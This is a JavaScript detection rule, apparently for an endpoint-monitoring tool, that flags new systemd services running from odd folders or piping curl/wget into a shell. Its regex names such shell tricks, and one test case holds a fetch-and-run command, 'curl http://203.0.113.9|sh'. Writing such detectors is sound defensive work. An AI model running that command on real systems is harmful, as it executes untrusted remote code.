import { shown } from "../../rule.js";
import { fieldOf, snapshotRule } from "../../snapshot-rule.js";

/** A service starts a program from a folder where programs do not belong, and was not there before. */
export const serviceSuspicious = snapshotRule({
  id: "service-suspicious",
  alertType: "Picket_ServiceSuspicious",
  name: "Service from an unusual place",
  severity: "High",
  about: "A service starts a program from a folder where programs do not belong, and was not there before.",
  tactics: ["Persistence"],
  techniques: ["T1543.002"],
  remediation: "Stop and remove the service; keep the program's file.",
  falsePositives: ["Developers who try a service from their home."],
  needs: "the agent's snapshot of services",
  reads: "SystemServices",
  on: "appears",
  remember: (item) =>
    /(?:^|\s)[-@+!]*\/(?:tmp|var\/tmp|dev\/shm|run\/shm|root\/\.|home\/[^/]+\/\.|etc\/\.|usr\/lib\/\.)|(?:curl|wget)\b[^|]*\|\s*(?:ba)?sh|\/dev\/tcp\//.test(
      fieldOf(item, "CommandLine"),
    )
      ? [fieldOf(item, "ServiceName"), fieldOf(item, "CommandLine")]
      : undefined,
  title: (key, deviceId) => `The service ${key} of ${deviceId} lies in an unusual place`,
  reason: (key, value) => `${shown(key)} starts ${shown(value)} and was not in the last snapshot.`,
  cases: [
    {
      name: "in /tmp",
      before: [],
      after: [
        {
          ServiceName: "kd.service",
          Path: "/etc/systemd/system/kd.service",
          Enabled: true,
          CommandLine: "/tmp/kd",
        },
      ],
      alerts: 1,
    },
    {
      name: "it fetches",
      before: [],
      after: [
        {
          ServiceName: "u.service",
          Path: "/etc/systemd/system/u.service",
          Enabled: true,
          CommandLine: "/bin/sh -c curl http://203.0.113.9|sh",
        },
      ],
      alerts: 1,
    },
    {
      name: "an ordinary one",
      before: [],
      after: [
        {
          ServiceName: "nginx.service",
          Path: "/etc/systemd/system/nginx.service",
          Enabled: true,
          CommandLine: "/usr/sbin/nginx",
        },
      ],
      alerts: 0,
    },
    {
      name: "in /opt",
      before: [],
      after: [
        {
          ServiceName: "app.service",
          Path: "/etc/systemd/system/app.service",
          Enabled: true,
          CommandLine: "/opt/app/run",
        },
      ],
      alerts: 0,
    },
  ],
});
